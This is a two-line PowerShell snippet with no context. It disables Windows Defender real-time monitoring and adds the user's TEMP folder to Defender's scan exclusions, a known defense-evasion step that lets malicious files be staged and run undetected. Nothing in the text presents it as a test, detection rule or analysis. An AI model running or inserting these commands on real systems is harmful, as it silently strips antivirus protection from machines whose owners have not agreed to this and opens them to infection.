Set-MpPreference -DisableRealtimeMonitoring $true
Add-MpPreference -ExclusionPath $env:TEMP
